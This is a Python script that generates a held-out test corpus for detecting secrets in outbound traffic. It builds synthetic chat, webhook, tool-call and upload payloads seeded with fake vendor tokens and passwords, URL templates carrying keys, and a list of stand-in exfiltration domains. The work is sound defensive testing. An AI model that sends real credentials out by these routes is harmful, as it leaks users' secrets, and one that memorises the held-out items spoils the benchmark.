#!/usr/bin/env python3
"""Generator for the t14 HELD-OUT egress secret-detection corpus.

Standard library only. One random.Random(SEED) drives every choice; gzip
members use mtime=0, so running this again reproduces byte-identical files.

    nice python3 generate.py          # write positives/negatives/README
    python3 generate.py --check       # validate the written files
"""
import argparse
import base64
import bz2
import codecs
import gzip
import hashlib
import io
import json
import lzma
import os
import random
import re
import string
import struct
import sys
import urllib.parse
import zlib

SEED = 61840273
R = random.Random(SEED)
HERE = os.path.dirname(os.path.abspath(__file__))

UP = string.ascii_uppercase
LO = string.ascii_lowercase
DI = string.digits
ALNUM = UP + LO + DI
LOALNUM = LO + DI
UPALNUM = UP + DI
HEXL = '0123456789abcdef'
HEXU = HEXL.upper()
B64A = UP + LO + DI + '+/'
B64U = UP + LO + DI + '-_'
B58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz'
BECH = 'qpzry9x8gf2tvdw0s3jn54khce6mua7l'


# ---------------------------------------------------------------- helpers
def rs(alpha, n):
    return ''.join(R.choice(alpha) for _ in range(n))


def rb(n):
    return bytes(R.getrandbits(8) for _ in range(n))


def pick(seq):
    return R.choice(seq)


def chance(p):
    return R.random() < p


def b64(b):
    if isinstance(b, str):
        b = b.encode()
    return base64.b64encode(b).decode()


def b64u(b, pad=False):
    if isinstance(b, str):
        b = b.encode()
    s = base64.urlsafe_b64encode(b).decode()
    return s if pad else s.rstrip('=')


def q(s, safe=''):
    return urllib.parse.quote(s, safe=safe)


def gz(data):
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode='wb', mtime=0, filename='') as f:
        f.write(data)
    return buf.getvalue()


def wrap(s, n=64):
    return '\n'.join(s[i:i + n] for i in range(0, len(s), n))


def b62(n):
    a = DI + UP + LO
    out = ''
    while n:
        n, r = divmod(n, 62)
        out = a[r] + out
    return out or '0'


def b58enc(b):
    n = int.from_bytes(b, 'big')
    out = ''
    while n:
        n, r = divmod(n, 58)
        out = B58[r] + out
    pad = len(b) - len(b.lstrip(b'\0'))
    return '1' * pad + out


def b58check(payload):
    chk = hashlib.sha256(hashlib.sha256(payload).digest()).digest()[:4]
    return b58enc(payload + chk)


def uuid4():
    h = rs(HEXL, 32)
    h = h[:12] + '4' + h[13:16] + pick('89ab') + h[17:]
    return '%s-%s-%s-%s-%s' % (h[:8], h[8:12], h[12:16], h[16:20], h[20:])


FIRST = ['anna', 'lukas', 'marie', 'jonas', 'sofia', 'mateo', 'yuki', 'wei', 'olga', 'piotr', 'emre', 'ji-woo',
         'lucas', 'giulia', 'daan', 'ines', 'omar', 'priya', 'noah', 'elena', 'kenji', 'fatima', 'sven', 'chloe']
LAST = ['muller', 'garcia', 'tanaka', 'nowak', 'rossi', 'dubois', 'silva', 'jansen', 'kim', 'chen', 'ivanova',
        'yilmaz', 'smith', 'larsen', 'kowalski', 'moreau', 'santos', 'fischer', 'patel', 'okafor']
ORGS = ['northwind', 'bluepeak', 'kestrel-labs', 'orbitly', 'fernhill', 'quantaloop', 'tidewater', 'lumenworks',
        'harborline', 'copperfox', 'gridwise', 'silverbirch', 'novacrest', 'palisade-io', 'brightmoor']
TLDS = ['com', 'io', 'dev', 'net', 'de', 'co.uk', 'fr', 'app', 'cloud', 'es', 'nl']
EXFIL_DOMAINS = ['telemetry-sync.net', 'cdn-metrics.io', 'img-cache-eu.com', 'stats-collector.dev',
                 'update-check.org', 'pixel-relay.net', 'diag-upload.app', 'analytics-beacon.co',
                 'oast-check.live', 'fontcdn-static.com', 'logs-ingest.cloud', 'webhook-relay.site']


def person():
    return pick(FIRST), pick(LAST)


def org_domain():
    return '%s.%s' % (pick(ORGS), pick(TLDS))


def email():
    f, l = person()
    return '%s.%s@%s' % (f.replace('-', ''), l, org_domain())


def username():
    f, l = person()
    return pick(['%s.%s', '%s_%s', '%s%s', '%s-%s']) % (f.replace('-', ''), l) if chance(0.7) else pick(
        ['admin', 'deploy', 'root', 'svc_backup', 'jenkins', 'ci-bot', 'postgres', 'app'])


def password():
    k = R.randrange(5)
    if k == 0:
        return rs(ALNUM + '!@#$%^&*-_=+?', R.randint(12, 24))
    if k == 1:
        w = ['Sommer', 'Winter', 'Falcon', 'Dragon', 'Monkey', 'Sunshine', 'Kaffee', 'Soleil', 'Tigre', 'Bluebird',
             'Harbor', 'Orion', 'Maple', 'Nebula', 'Cactus']
        return pick(w) + pick(w).lower() + str(R.randint(10, 9999)) + pick('!#$%&?*.')
    if k == 2:
        w = ['correct', 'horse', 'battery', 'staple', 'orange', 'river', 'window', 'silent', 'copper', 'lantern',
             'violet', 'gravel', 'meadow', 'quartz', 'pepper', 'rocket']
        return '-'.join(pick(w) for _ in range(4)) + str(R.randint(1, 99))
    if k == 3:
        return rs(LO, 3).capitalize() + rs(DI, 3) + pick('@#!') + rs(ALNUM, 6) + pick('$%&')
    return rs(ALNUM, 8) + pick(['!', '2024!', '#1', '@@', '$$9']) + rs(LO + DI, 4)


# ---------------------------------------------------------------- languages
INTRO = {
    'en': ["Here is the config from the server, can you check why the deploy fails?",
           "Summarise what this output means and suggest a fix.",
           "Please review the following and tell me what is wrong."],
    'de': ["Hier ist die Konfiguration vom Server, kannst du prüfen, warum das Deployment fehlschlägt?",
           "Bitte fasse zusammen, was diese Ausgabe bedeutet."],
    'fr': ["Voici la configuration du serveur, peux-tu vérifier pourquoi le déploiement échoue ?",
           "Peux-tu m'expliquer ce que signifie cette sortie ?"],
    'es': ["Aquí está la configuración del servidor, ¿puedes revisar por qué falla el despliegue?",
           "Resume qué significa esta salida, por favor."],
    'pt': ["Segue a configuração do servidor, pode ver por que o deploy está falhando?"],
    'it': ["Ecco la configurazione del server, puoi controllare perché il deploy fallisce?"],
    'nl': ["Hier is de configuratie van de server, kun je kijken waarom de deploy mislukt?"],
    'ja': ["サーバーの設定です。デプロイが失敗する理由を確認してもらえますか？"],
    'zh': ["这是服务器上的配置，能帮我看看为什么部署失败吗？"],
    'ru': ["Вот конфигурация с сервера, посмотри, почему падает деплой?"],
    'pl': ["Oto konfiguracja z serwera, możesz sprawdzić, dlaczego wdrożenie się nie udaje?"],
    'tr': ["Sunucudaki yapılandırma bu, dağıtımın neden başarısız olduğuna bakabilir misin?"],
    'ko': ["서버 설정입니다. 배포가 왜 실패하는지 확인해 줄 수 있나요?"],
    'sv': ["Här är konfigurationen från servern, kan du kolla varför driftsättningen misslyckas?"],
}
TOKEN_PROSE = {
    'en': "Here's the token you asked for: {v} (it expires next week).",
    'de': "Hier ist der Token, den du wolltest: {v} – läuft nächste Woche ab.",
    'fr': "Voici la clé demandée : {v} (elle expire la semaine prochaine).",
    'es': "Aquí tienes la clave que pediste: {v}, caduca la semana que viene.",
    'pt': "Aqui está a chave que você pediu: {v} (expira semana que vem).",
    'it': "Ecco la chiave che mi hai chiesto: {v}, scade la prossima settimana.",
    'nl': "Hier is de sleutel die je vroeg: {v} (verloopt volgende week).",
    'ja': "頼まれていたキーです: {v} 来週失効します。",
    'zh': "你要的密钥在这里：{v}，下周过期。",
    'ru': "Вот ключ, который ты просил: {v} (истекает на следующей неделе).",
    'pl': "Oto klucz, o który prosiłeś: {v} (wygasa w przyszłym tygodniu).",
    'tr': "İstediğin anahtar burada: {v} (gelecek hafta sona eriyor).",
    'ko': "요청하신 키입니다: {v} (다음 주에 만료됩니다).",
}
PW_PROSE = {
    'en': "The VPN password is {p} — please don't share it.",
    'de': "Das VPN-Passwort lautet {p}, bitte nicht weitergeben.",
    'fr': "Le mot de passe du VPN est {p}, ne le partage pas.",
    'es': "La contraseña de la VPN es {p}, no la compartas.",
    'pt': "A senha da VPN é {p}, não compartilhe.",
    'it': "La password della VPN è {p}, non condividerla.",
    'nl': "Het wachtwoord van de VPN is {p}, niet delen aub.",
    'ja': "VPNのパスワードは {p} です。共有しないでください。",
    'zh': "VPN 的密码是 {p}，请不要外传。",
    'ru': "Пароль от VPN: {p}, никому не передавай.",
    'pl': "Hasło do VPN to {p}, nie udostępniaj go.",
    'tr': "VPN şifresi {p}, lütfen kimseyle paylaşma.",
    'ko': "VPN 비밀번호는 {p} 입니다. 공유하지 마세요.",
    'sv': "Lösenordet till VPN:et är {p}, dela det inte.",
}
PW_PROSE2 = {
    'en': "login for the staging box: user {u} / pass {p}",
    'de': "Zugang zum Staging-Server: Benutzer {u}, Kennwort {p}",
    'fr': "accès à la machine de recette : identifiant {u}, mot de passe {p}",
    'es': "acceso al servidor de pruebas: usuario {u}, contraseña {p}",
    'it': "accesso al server di staging: utente {u}, password {p}",
    'pt': "acesso ao servidor de homologação: usuário {u}, senha {p}",
    'ja': "ステージング環境のログイン: ユーザー {u} / パスワード {p}",
    'ru': "доступ к стейджингу: логин {u}, пароль {p}",
    'zh': "测试服务器登录：用户名 {u}，密码 {p}",
}


def intro():
    lang = pick(list(INTRO))
    return pick(INTRO[lang])


# ---------------------------------------------------------------- body wrappers
def ts():
    return '2026-%02d-%02dT%02d:%02d:%02dZ' % (R.randint(1, 11), R.randint(1, 28), R.randint(0, 23),
                                                R.randint(0, 59), R.randint(0, 59))


def J(o):
    return json.dumps(o, ensure_ascii=False)


def w_openai(s):
    return 'application/json', J({"model": pick(["gpt-4o", "gpt-4.1-mini", "o4-mini", "gpt-5"]), "messages": [
        {"role": "system", "content": "You are a helpful coding assistant."},
        {"role": "user", "content": intro() + "\n\n" + s}], "temperature": pick([0, 0.2, 0.7])})


def w_anthropic(s):
    return 'application/json', J({"model": pick(["claude-sonnet-4-5", "claude-opus-4-1", "claude-haiku-4-5"]),
                                  "max_tokens": pick([1024, 4096, 8192]), "messages": [
            {"role": "user", "content": [{"type": "text", "text": intro() + "\n\n```\n" + s + "\n```"}]}]})


def w_toolcall(s):
    args = J({"command": "cat <<'EOF' > /tmp/notes.txt\n" + s + "\nEOF", "timeout": 30})
    return 'application/json', J({"model": "gpt-4o", "messages": [
        {"role": "user", "content": "save my notes"},
        {"role": "assistant", "content": None, "tool_calls": [
            {"id": "call_" + rs(ALNUM, 24), "type": "function", "function": {"name": "run_shell", "arguments": args}}]},
        {"role": "tool", "tool_call_id": "call_" + rs(ALNUM, 24), "content": "ok"}]})


def w_mcp(s):
    return 'application/json', J({"jsonrpc": "2.0", "id": R.randint(1, 999), "method": "tools/call",
                                  "params": {"name": pick(["write_file", "create_note", "post_message"]),
                                             "arguments": {"path": pick(["notes/todo.md", "scratch.txt"]),
                                                           "content": s}}})


def w_slack(s):
    if chance(0.5):
        return 'application/json', J({"channel": pick(["#ops", "#dev", "#alerts", "C0" + rs(UPALNUM, 9)]),
                                      "text": s})
    return 'application/json', J({"blocks": [{"type": "section", "text": {"type": "mrkdwn", "text": s}}],
                                  "text": "update"})


def w_teams(s):
    return 'application/json', J({"type": "message", "attachments": [{
        "contentType": "application/vnd.microsoft.card.adaptive", "content": {
            "type": "AdaptiveCard", "version": "1.4", "body": [{"type": "TextBlock", "text": s, "wrap": True}]}}]})


def w_matrix(s):
    return 'application/json', J({"msgtype": "m.text", "body": s})


def w_discord(s):
    return 'application/json', J({"content": s, "username": pick(["deploy-bot", "agent", "ci"])})


def w_ghissue(s):
    return 'application/json', J({"title": pick(["Build fails on main", "Crash on startup", "Flaky test",
                                                 "Login broken after upgrade"]),
                                  "body": "### Steps\n1. run the job\n\n### Output\n```\n" + s + "\n```",
                                  "labels": ["bug"]})


def w_jira(s):
    return 'application/json', J({"fields": {"project": {"key": pick(["OPS", "PLAT", "SEC"])},
                                             "summary": "Investigate failure",
                                             "description": s, "issuetype": {"name": "Task"}}})


def w_linear(s):
    return 'application/json', J({"query": "mutation CommentCreate($input: CommentCreateInput!) "
                                           "{ commentCreate(input: $input) { success } }",
                                  "variables": {"input": {"issueId": uuid4(), "body": s}}})


def w_paste(s):
    return 'application/x-www-form-urlencoded', urllib.parse.urlencode(
        {"content": s, "syntax": pick(["text", "bash", "yaml", "json"]), "expiry_days": pick(["1", "7"])})


def w_multipart(s):
    bnd = '----WebKitFormBoundary' + rs(ALNUM, 16)
    fn = pick(['notes.txt', 'debug.log', 'output.txt', 'report.md', 'dump.txt'])
    body = ('--%s\r\nContent-Disposition: form-data; name="title"\r\n\r\n%s\r\n'
            '--%s\r\nContent-Disposition: form-data; name="file"; filename="%s"\r\n'
            'Content-Type: text/plain\r\n\r\n%s\r\n--%s--\r\n') % (bnd, fn, bnd, fn, s, bnd)
    return 'multipart/form-data; boundary=' + bnd, body


def w_yaml(s):
    ind = '\n'.join('    ' + l for l in s.split('\n'))
    return 'application/yaml', 'kind: Note\nmetadata:\n  name: %s\nspec:\n  content: |\n%s\n' % (
        pick(['debug', 'handover', 'scratch']), ind)


def w_xml(s):
    e = s.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;')
    return 'application/xml', '<?xml version="1.0" encoding="UTF-8"?>\n<ticket><id>%d</id><note>%s</note></ticket>\n' % (
        R.randint(1000, 99999), e)


def w_csv(s):
    v = '"' + s.replace('"', '""') + '"'
    return 'text/csv', 'id,created,author,note\n%d,%s,%s,%s\n' % (R.randint(1, 9999), ts(), username(), v)


def w_ndjson(s):
    lines = [J({"ts": ts(), "level": "info", "msg": "request ok", "latency_ms": R.randint(3, 900)}),
             J({"ts": ts(), "level": pick(["debug", "error"]), "msg": s}),
             J({"ts": ts(), "level": "info", "msg": "shutdown"})]
    return 'application/x-ndjson', '\n'.join(lines) + '\n'


def w_graphql(s):
    return 'application/json', J({"operationName": "CreateSnippet",
                                  "query": "mutation CreateSnippet($t:String!,$c:String!){createSnippet(title:$t,content:$c){id}}",
                                  "variables": {"t": "notes", "c": s}})


def w_log(s):
    return 'text/plain', '%s INFO  worker started pid=%d\n%s DEBUG %s\n%s INFO  done\n' % (
        ts(), R.randint(100, 60000), ts(), s, ts())


def w_gchat(s):
    return 'application/json; charset=UTF-8', J({"text": s})


def w_raw(s):
    return 'text/plain; charset=utf-8', s


WRAPPERS = [w_openai, w_anthropic, w_toolcall, w_mcp, w_slack, w_teams, w_matrix, w_discord, w_ghissue, w_jira,
            w_linear, w_paste, w_multipart, w_yaml, w_xml, w_csv, w_ndjson, w_graphql, w_log, w_gchat, w_raw]


def body_case(snippet, wrapper=None):
    ct, t = (wrapper or pick(WRAPPERS))(snippet)
    return {"where": "body", "content_type": ct, "text": t}


def bin_body(ct, data, enc=None):
    d = {"where": "body", "content_type": ct}
    if enc == 'gzip':
        data = gz(data)
        d["content_encoding"] = 'gzip'
    elif enc == 'deflate':
        data = zlib.compress(data, 9)
        d["content_encoding"] = 'deflate'
    d["base64"] = b64(data)
    return d


def hdr(name, value):
    return {"where": "header", "text": '%s: %s' % (name, value)}


def url(u):
    return {"where": "url", "text": u}


def host(h):
    return {"where": "hostname", "text": h}


# ---------------------------------------------------------------- vendor tokens
def gh_token(prefix):
    body = rs(ALNUM, 30)
    cs = b62(zlib.crc32(body.encode())).rjust(6, '0')
    if chance(0.25):
        cs = rs(ALNUM, 6)  # wrong checksum still counts
    return prefix + body + cs


def fake_body(alpha, n):
    """low-entropy / fake-looking body (policy: still a secret when prefixed)."""
    k = R.randrange(4)
    if k == 0:
        return (rs(alpha, 1) * n)[:n]
    if k == 1:
        seq = ''.join(c for c in 'abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ' if c in alpha)
        return (seq * 5)[:n]
    if k == 2:
        return ('EXAMPLE' + 'x' * n)[:n] if all(c in alpha for c in 'EXAMPLEx') else ('0' * n)
    return (rs(alpha, 4) * n)[:n]


def maybe_fake(prefix, alpha, n, p=0.12):
    if chance(p):
        return prefix + fake_body(alpha, n)
    if chance(0.1):
        n += pick([-2, -1, 1, 3])
    return prefix + rs(alpha, n)


def jwt(claims=None, alg='HS256'):
    h = b64u(J({"alg": alg, "typ": "JWT"}).replace(' ', ''))
    c = claims or {"sub": str(R.randint(10000, 9999999)), "name": ' '.join(person()).title(),
                   "iat": 1760000000 + R.randint(0, 9999999), "exp": 1790000000 + R.randint(0, 9999999)}
    p = b64u(json.dumps(c, separators=(',', ':')))
    return '%s.%s.%s' % (h, p, b64u(rb(32 if alg == 'HS256' else 256)))


# Each vendor: gen, env var name, header templates, URL templates, API host
V = {}


def vendor(name, env, hdrs, urls, gen):
    V[name] = dict(env=env, hdrs=hdrs, urls=urls, gen=gen)


vendor('github-pat', 'GITHUB_TOKEN', [('Authorization', 'token {v}'), ('Authorization', 'Bearer {v}')],
       ['https://api.github.com/repos/{o}/{r}/contents/README.md?access_token={v}',
        'https://x-access-token:{v}@github.com/{o}/{r}.git/info/refs?service=git-upload-pack'],
       lambda: gh_token('ghp_') if chance(0.85) else maybe_fake('ghp_', ALNUM, 36, 1))
vendor('github-fine-grained-pat', 'GH_TOKEN', [('Authorization', 'Bearer {v}')],
       ['https://{v}@github.com/{o}/{r}.git'],
       lambda: 'github_pat_' + rs(ALNUM, 22) + '_' + rs(ALNUM, 59))
vendor('github-oauth-app-token', 'GITHUB_OAUTH_TOKEN', [('Authorization', 'token {v}')],
       ['https://api.github.com/user?token={v}'],
       lambda: gh_token(pick(['gho_', 'ghu_', 'ghs_', 'ghr_'])))
vendor('gitlab-token', 'GITLAB_TOKEN', [('PRIVATE-TOKEN', '{v}'), ('Authorization', 'Bearer {v}')],
       ['https://gitlab.com/api/v4/projects?private_token={v}',
        'https://oauth2:{v}@gitlab.com/{o}/{r}.git'],
       lambda: pick(['glpat-' + rs(B64U, 20), 'glpat-' + rs(B64U, 20), 'glrt-' + rs(B64U, 20),
                     'gldt-' + rs(B64U, 20), 'glptt-' + rs(HEXL, 40)]))
vendor('slack-bot-token', 'SLACK_BOT_TOKEN', [('Authorization', 'Bearer {v}')],
       ['https://slack.com/api/chat.postMessage?token={v}&channel=C0{c}'],
       lambda: 'xoxb-%d-%d-%s' % (R.randint(10 ** 10, 10 ** 12), R.randint(10 ** 11, 10 ** 13), rs(ALNUM, 24)))
vendor('slack-user-token', 'SLACK_TOKEN', [('Authorization', 'Bearer {v}')],
       ['https://slack.com/api/conversations.history?token={v}'],
       lambda: pick(['xoxp-%d-%d-%d-%s' % (R.randint(10 ** 10, 10 ** 12), R.randint(10 ** 10, 10 ** 12),
                                             R.randint(10 ** 11, 10 ** 13), rs(HEXL, 32)),
                     'xapp-1-A%s-%d-%s' % (rs(UPALNUM, 10), R.randint(10 ** 11, 10 ** 13), rs(HEXL, 64)),
                     'xoxe.xoxp-1-' + rs(ALNUM, 140)]))
vendor('stripe-secret-key', 'STRIPE_SECRET_KEY', [('Authorization', 'Bearer {v}')],
       ['https://{v}:@api.stripe.com/v1/charges'],
       lambda: pick(['sk_live_' + rs(ALNUM, 24), 'sk_live_51' + rs(ALNUM, 97), 'rk_live_' + rs(ALNUM, 24),
                     'sk_test_51' + rs(ALNUM, 97), maybe_fake('sk_live_', ALNUM, 24, 1)]))
vendor('stripe-webhook-secret', 'STRIPE_WEBHOOK_SECRET', [('X-Webhook-Secret', '{v}')],
       ['https://hooks.{d}/stripe?secret={v}'], lambda: 'whsec_' + rs(ALNUM, 32))
vendor('openai-api-key', 'OPENAI_API_KEY', [('Authorization', 'Bearer {v}')],
       ['https://api.openai.com/v1/models?api_key={v}'],
       lambda: pick(['sk-proj-' + rs(B64U, 156), 'sk-' + rs(ALNUM, 20) + 'T3BlbkFJ' + rs(ALNUM, 20),
                     'sk-svcacct-' + rs(B64U, 156), 'sk-admin-' + rs(B64U, 140),
                     'sk-proj-' + fake_body(ALNUM, 48)]))
vendor('anthropic-api-key', 'ANTHROPIC_API_KEY', [('x-api-key', '{v}')],
       ['https://api.anthropic.com/v1/models?key={v}'],
       lambda: pick(['sk-ant-api03-' + rs(B64U, 93) + 'AA', 'sk-ant-admin01-' + rs(B64U, 93) + 'AA',
                     'sk-ant-api03-' + rs(B64U, 80)]))
vendor('google-api-key', 'GOOGLE_API_KEY', [('X-Goog-Api-Key', '{v}')],
       ['https://generativelanguage.googleapis.com/v1beta/models/gemini-2.5-flash:generateContent?key={v}',
        'https://maps.googleapis.com/maps/api/geocode/json?address=Berlin&key={v}'],
       lambda: 'AIza' + rs(B64U, 35))
vendor('google-oauth-token', 'GOOGLE_OAUTH_CLIENT_SECRET', [('Authorization', 'Bearer {v}')],
       ['https://oauth2.googleapis.com/tokeninfo?access_token={v}'],
       lambda: pick(['GOCSPX-' + rs(B64U, 28), 'ya29.a0' + rs(B64U, 180), '1//0' + pick('3gde') + rs(B64U, 99)]))
vendor('aws-access-key', 'AWS_ACCESS_KEY_ID', [('X-Amz-Access-Key', '{v}')],
       ['https://s3.amazonaws.com/{r}/?AWSAccessKeyId={v}&Signature={s}&Expires=1790000000'],
       lambda: pick(['AKIA', 'AKIA', 'ASIA']) + rs(UP + '234567', 16) if chance(0.9) else 'AKIAIOSFODNN7EXAMPLE')
vendor('azure-ad-client-secret', 'AZURE_CLIENT_SECRET', [('X-Client-Secret', '{v}')],
       ['https://login.microsoftonline.com/{u}/oauth2/v2.0/token?client_secret={v}'],
       lambda: rs(ALNUM, 3) + '8Q~' + rs(ALNUM + '_.~-', 34))
vendor('twilio-credentials', 'TWILIO_API_KEY', [('X-Twilio-Key', '{v}')],
       ['https://api.twilio.com/2010-04-01/Accounts.json?key={v}'],
       lambda: pick(['SK' + rs(HEXL, 32), 'AC%s:%s' % (rs(HEXL, 32), rs(HEXL, 32))]))
vendor('sendgrid-api-key', 'SENDGRID_API_KEY', [('Authorization', 'Bearer {v}')],
       ['https://api.sendgrid.com/v3/mail/send?api_key={v}'],
       lambda: 'SG.' + rs(B64U, 22) + '.' + rs(B64U, 43))
vendor('mailgun-api-key', 'MAILGUN_API_KEY', [('X-Mailgun-Key', '{v}')],
       ['https://api:{v}@api.mailgun.net/v3/{d}/messages'],
       lambda: pick(['key-' + rs(HEXL, 32), rs(HEXL, 32) + '-' + rs(HEXL, 8) + '-' + rs(HEXL, 8)]))
vendor('mailchimp-api-key', 'MAILCHIMP_API_KEY', [('Authorization', 'apikey {v}')],
       ['https://us%d.api.mailchimp.com/3.0/lists?apikey={v}' % R.randint(1, 21)],
       lambda: rs(HEXL, 32) + '-us' + str(R.randint(1, 21)))
vendor('npm-token', 'NPM_TOKEN', [('Authorization', 'Bearer {v}')],
       ['https://registry.npmjs.org/-/whoami?token={v}'], lambda: maybe_fake('npm_', ALNUM, 36))
vendor('pypi-token', 'PYPI_API_TOKEN', [('Authorization', 'Bearer {v}')],
       ['https://__token__:{v}@upload.pypi.org/legacy/'],
       lambda: 'pypi-AgEIcHlwaS5vcmc' + rs(B64U, R.randint(60, 160)))
vendor('docker-hub-pat', 'DOCKERHUB_TOKEN', [('Authorization', 'Bearer {v}')],
       ['https://hub.docker.com/v2/users/login?token={v}'], lambda: maybe_fake('dckr_pat_', B64U, 27))
vendor('digitalocean-token', 'DIGITALOCEAN_TOKEN', [('Authorization', 'Bearer {v}')],
       ['https://api.digitalocean.com/v2/droplets?token={v}'],
       lambda: pick(['dop_v1_', 'doo_v1_', 'dor_v1_']) + rs(HEXL, 64))
vendor('heroku-api-key', 'HEROKU_API_KEY', [('Authorization', 'Bearer {v}')],
       ['https://api.heroku.com/apps?api_key={v}'], lambda: 'HRKU-AA' + rs(B64U, 58))
vendor('shopify-token', 'SHOPIFY_ACCESS_TOKEN', [('X-Shopify-Access-Token', '{v}')],
       ['https://{o}.myshopify.com/admin/api/2025-01/shop.json?access_token={v}'],
       lambda: pick(['shpat_', 'shpca_', 'shppa_', 'shpss_']) + rs(HEXL, 32))
vendor('square-token', 'SQUARE_ACCESS_TOKEN', [('Authorization', 'Bearer {v}')],
       ['https://connect.squareup.com/v2/locations?access_token={v}'],
       lambda: pick(['EAAA' + rs(B64U, 60), 'sq0atp-' + rs(B64U, 22), 'sq0csp-' + rs(B64U, 43)]))
vendor('discord-bot-token', 'DISCORD_TOKEN', [('Authorization', 'Bot {v}')],
       ['https://discord.com/api/v10/users/@me?token={v}'],
       lambda: '%s.%s.%s' % (b64u(str(R.randint(10 ** 17, 10 ** 19))), rs(B64U, 6), rs(B64U, 38)))
vendor('telegram-bot-token', 'TELEGRAM_BOT_TOKEN', [('X-Telegram-Bot-Token', '{v}')],
       ['https://api.telegram.org/bot{v}/sendMessage?chat_id=-100{n}&text=deploy%20ok'],
       lambda: '%d:AA%s' % (R.randint(10 ** 8, 10 ** 10), rs(B64U, 33)))
vendor('huggingface-token', 'HF_TOKEN', [('Authorization', 'Bearer {v}')],
       ['https://huggingface.co/api/whoami-v2?token={v}'], lambda: maybe_fake('hf_', UP + LO, 34))
vendor('databricks-token', 'DATABRICKS_TOKEN', [('Authorization', 'Bearer {v}')],
       ['https://adb-{n}.azuredatabricks.net/api/2.0/clusters/list?token={v}'],
       lambda: 'dapi' + rs(HEXL, 32) + pick(['', '-2', '-3']))
vendor('atlassian-api-token', 'JIRA_API_TOKEN', [('Authorization', 'Bearer {v}')],
       ['https://{o}.atlassian.net/rest/api/3/myself?token={v}'],
       lambda: 'ATATT3xFfGF0' + rs(B64U, 170) + '=' + rs(HEXU, 8))
vendor('linear-api-key', 'LINEAR_API_KEY', [('Authorization', '{v}')],
       ['https://api.linear.app/graphql?key={v}'], lambda: 'lin_api_' + rs(ALNUM, 40))
vendor('notion-token', 'NOTION_TOKEN', [('Authorization', 'Bearer {v}')],
       ['https://api.notion.com/v1/users/me?token={v}'],
       lambda: pick(['secret_' + rs(ALNUM, 43), 'ntn_' + rs(DI, 11) + rs(ALNUM, 35)]))
vendor('figma-token', 'FIGMA_TOKEN', [('X-Figma-Token', '{v}')],
       ['https://api.figma.com/v1/me?token={v}'], lambda: 'figd_' + rs(B64U, 40))
vendor('newrelic-key', 'NEW_RELIC_API_KEY', [('Api-Key', '{v}')],
       ['https://api.newrelic.com/v2/applications.json?api_key={v}'],
       lambda: pick(['NRAK-', 'NRII-', 'NRJS-']) + rs(UPALNUM, 27))
vendor('datadog-api-key', 'DD_API_KEY', [('DD-API-KEY', '{v}')],
       ['https://api.datadoghq.com/api/v1/validate?api_key={v}'], lambda: rs(HEXL, 32))
vendor('sentry-auth-token', 'SENTRY_AUTH_TOKEN', [('Authorization', 'Bearer {v}')],
       ['https://sentry.io/api/0/projects/?auth_token={v}'],
       lambda: pick(['sntrys_' + b64(J({"iat": 1760000000 + R.randint(0, 10 ** 7), "url": "https://sentry.io",
                                        "region_url": "https://de.sentry.io", "org": pick(ORGS)})).rstrip('=')
                     + '_' + rs(B64U, 43), 'sntryu_' + rs(HEXL, 64)]))
vendor('grafana-token', 'GRAFANA_TOKEN', [('Authorization', 'Bearer {v}')],
       ['https://{o}.grafana.net/api/dashboards/home?token={v}'],
       lambda: pick(['glsa_' + rs(ALNUM, 32) + '_' + rs(HEXL, 8),
                     'glc_' + b64(J({"o": str(R.randint(10 ** 5, 10 ** 7)), "n": "stack-%d" % R.randint(1, 999),
                                     "k": rs(ALNUM, 24), "m": {"r": "prod-eu-west-2"}})).rstrip('=')]))
vendor('vault-token', 'VAULT_TOKEN', [('X-Vault-Token', '{v}')],
       ['https://vault.{d}/v1/secret/data/app?token={v}'],
       lambda: pick(['hvs.' + rs(B64U, 91), 'hvs.CAES' + rs(B64U, 100), 'hvb.' + rs(B64U, 130)]))
vendor('terraform-cloud-token', 'TFE_TOKEN', [('Authorization', 'Bearer {v}')],
       ['https://app.terraform.io/api/v2/account/details?token={v}'],
       lambda: rs(ALNUM, 14) + '.atlasv1.' + rs(ALNUM, 67))
vendor('postman-api-key', 'POSTMAN_API_KEY', [('X-Api-Key', '{v}')],
       ['https://api.getpostman.com/me?apikey={v}'], lambda: 'PMAK-' + rs(HEXL, 24) + '-' + rs(HEXL, 34))
vendor('pulumi-token', 'PULUMI_ACCESS_TOKEN', [('Authorization', 'token {v}')],
       ['https://api.pulumi.com/api/user?token={v}'], lambda: 'pul-' + rs(HEXL, 40))
vendor('doppler-token', 'DOPPLER_TOKEN', [('Authorization', 'Bearer {v}')],
       ['https://api.doppler.com/v3/me?token={v}'], lambda: pick(['dp.pt.', 'dp.st.', 'dp.sa.']) + rs(ALNUM, 43))
vendor('mapbox-secret-token', 'MAPBOX_SECRET_TOKEN', [('Authorization', 'Bearer {v}')],
       ['https://api.mapbox.com/tokens/v2?access_token={v}'],
       lambda: 'sk.' + b64u(J({"u": pick(FIRST), "a": rs(LOALNUM, 25)}).replace(' ', '')) + '.' + rs(B64U, 22))
vendor('planetscale-token', 'PLANETSCALE_TOKEN', [('Authorization', '{v}')],
       ['https://api.planetscale.com/v1/organizations?token={v}'],
       lambda: pick(['pscale_tkn_', 'pscale_pw_', 'pscale_oauth_']) + rs(B64U, 43))
vendor('supabase-token', 'SUPABASE_ACCESS_TOKEN', [('Authorization', 'Bearer {v}')],
       ['https://api.supabase.com/v1/projects?token={v}'], lambda: pick(['sbp_', 'sb_secret_']) + rs(HEXL, 40))
vendor('openrouter-api-key', 'OPENROUTER_API_KEY', [('Authorization', 'Bearer {v}')],
       ['https://openrouter.ai/api/v1/models?key={v}'], lambda: 'sk-or-v1-' + rs(HEXL, 64))
vendor('groq-api-key', 'GROQ_API_KEY', [('Authorization', 'Bearer {v}')],
       ['https://api.groq.com/openai/v1/models?key={v}'], lambda: maybe_fake('gsk_', ALNUM, 52))
vendor('xai-api-key', 'XAI_API_KEY', [('Authorization', 'Bearer {v}')],
       ['https://api.x.ai/v1/models?key={v}'], lambda: 'xai-' + rs(ALNUM, 80))
vendor('replicate-token', 'REPLICATE_API_TOKEN', [('Authorization', 'Bearer {v}')],
       ['https://api.replicate.com/v1/account?token={v}'], lambda: 'r8_' + rs(ALNUM, 37))
vendor('perplexity-api-key', 'PERPLEXITY_API_KEY', [('Authorization', 'Bearer {v}')],
       ['https://api.perplexity.ai/models?key={v}'], lambda: 'pplx-' + rs(ALNUM, 48))
